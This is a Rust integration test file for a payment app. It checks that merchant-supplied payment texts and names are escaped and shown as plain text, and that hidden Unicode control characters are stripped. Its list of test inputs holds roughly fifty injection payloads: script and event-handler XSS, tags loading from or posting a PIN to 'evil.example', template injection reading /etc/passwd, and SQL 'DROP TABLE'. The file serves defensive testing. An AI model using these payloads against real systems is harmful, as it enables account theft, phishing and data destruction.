//! Texts of a shop that try to be markup, script or another amount: a page's tags stay as they are, and what is shown is the
//! text, without what turns or hides the text around it.

use lommebok_testkit::cases::Call;
use lommebok_testkit::test_app::TestApp;
use serde_json::{Value, json};

/// Texts that are shown as they are.
const AS_THEY_ARE: [&str; 50] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "<script\u{2f}>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=pin>",
    "<button formaction=//evil.example>Pay</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>pay</a>",
    "<a href=\"//evil.example\">pay here instead</a>",
    "<math><mtext><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</p></div></main></body></html>",
    "<!--",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "` onclick=`alert(1)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot; onload=alert(1)",
    "{{7*7}}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{% include '/etc/passwd' %}",
    "'; DROP TABLE payment; --",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
];

/// Texts of which something is taken away before they are shown.
const TAKEN_FROM: [(&str, &str); 12] = [
    ("Total: \u{202e}00.1 rk\u{202c}", "Total: 00.1 rk"),
    ("\u{2067}kr 1,00\u{2069} only", "kr 1,00 only"),
    ("a\u{200b}b\u{200e}c\u{200f}d\u{feff}e", "abcde"),
    ("x\u{61c}y\u{2066}z", "xyz"),
    ("one\r\ntwo\tthree", "one two three"),
    ("ring\u{7}bell\u{8}\u{1b}[31mred", "ring bell [31mred"),
    ("next\u{85}line\u{2028}and\u{2029}paragraph", "next line and paragraph"),
    ("much          room", "much room"),
    ("tag\u{e0041}\u{e0042}s", "tags"),
    ("\u{ad}soft\u{ad}hyphen", "softhyphen"),
    ("\u{3164}filled\u{115f}", "filled"),
    ("<b\u{202e}>bold</b>", "<b>bold</b>"),
];

/// The tags of a page with the names of their attributes, without values and texts.
fn tags(html: &str) -> Vec<String> {
    let tags = html.split('<').skip(1).filter_map(|rest| rest.split_once('>')).map(|(tag, _)| tag);
    tags.map(|tag| tag.split('"').step_by(2).collect()).collect()
}

/// What a browser makes of the page's escapes.
fn unescaped(html: &str) -> String {
    let escapes = [("&#60;", "<"), ("&#62;", ">"), ("&#34;", "\""), ("&#39;", "'"), ("&#38;", "&")];
    escapes.into_iter().fold(html.to_owned(), |text, (escape, character)| text.replace(escape, character))
}

fn texts() -> impl Iterator<Item = (&'static str, &'static str)> {
    AS_THEY_ARE.into_iter().map(|text| (text, text)).chain(TAKEN_FROM)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_text_stays_text_on_the_landing_page() {
    let app = TestApp::start().await;
    let page = async |id: String, text: &str| {
        let payment = app.init_with(&id, json!({"paymentText": text})).await;
        app.exchange(&Call::new("GET", payment.link.trim_start_matches(app.base()))).await.expect("a page").text
    };
    let plain = tags(&page("plain".to_owned(), "Order 1001").await);
    let mut faults = Vec::new();
    for (number, (text, shown)) in texts().enumerate() {
        let html = page(format!("text-{number}"), text).await;
        if tags(&html) != plain {
            faults.push(format!("{text:?} changes the page's tags"));
        }
        if !unescaped(&html).contains(shown) {
            faults.push(format!("{text:?} is not shown as {shown:?}"));
        }
        let hidden: Vec<char> =
            html.chars().filter(|character| "\u{202e}\u{2067}\u{200b}\u{7}".contains(*character)).collect();
        if !hidden.is_empty() {
            faults.push(format!("{text:?} keeps {hidden:?}"));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_text_is_the_shown_text_on_the_phone_and_in_receipts() {
    let app = TestApp::start().await;
    let phone = app.first_phone().await;
    for (number, (text, shown)) in texts().enumerate() {
        let payment = app.init_with(&format!("text-{number}"), json!({"paymentText": text})).await;
        let opened = phone.open(&payment.link).await.succeeded();
        assert_eq!(opened.json["text"], shown, "{text:?}");
        assert_eq!(opened.headers["content-type"], "application/json", "{text:?}");
        assert!(!opened.text.contains('\u{202e}'), "{text:?}");
        drop(app.force_approve(&payment).await.succeeded());
        let captured =
            json!([{"pspTransactionId": payment.id, "status": "CAPTURED", "amount": 100, "paymentText": text}]);
        drop(app.update_status(&captured).await.succeeded());
        let receipts = phone.get("/receipts").await;
        let receipt = &receipts["receipts"][0];
        assert_eq!(receipt["payment"]["text"], shown, "{text:?}");
        let lines: Vec<&Value> =
            receipt["history"].as_array().expect("a list").iter().map(|line| &line["text"]).collect();
        assert_eq!(lines, [shown, shown], "{text:?}");
    }
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_merchants_name_stays_a_name() {
    let app = TestApp::start().await;
    let phone = app.first_phone().await;
    let path = "/merchant-management/psp/v1/merchants/100001";
    let rename = app.call(&app.credentials(), "PATCH", path).await;
    let mut plain = Vec::new();
    // A page takes a while to be made, so not every text is a name here; those that turn what is around them all are.
    let some = AS_THEY_ARE.into_iter().step_by(4).map(|name| (name, name)).chain(TAKEN_FROM);
    let names = some.filter(|(name, _)| !name.chars().any(char::is_control));
    for (number, (name, shown)) in [("Example", "Example")].into_iter().chain(names).enumerate() {
        let renamed = app.exchange(&rename.clone().json(&json!({"name": name}))).await.expect("an answer");
        assert_eq!(renamed.status.as_u16(), 200, "{name:?}: {}", renamed.text);
        let payment = app.init(&format!("name-{number}")).await;
        let read = Call::new("GET", payment.link.trim_start_matches(app.base()));
        let html = app.exchange(&read).await.expect("a page").text;
        if number == 0 {
            plain = tags(&html);
        }
        assert_eq!(tags(&html), plain, "{name:?}");
        assert!(unescaped(&html).contains(shown), "{name:?}");
        assert!(!html.contains('\u{202e}') && !html.contains('\u{2067}'), "{name:?}");
        assert_eq!(phone.open(&payment.link).await.succeeded().json["merchant"]["name"], shown, "{name:?}");
    }
    app.stop().await;
}
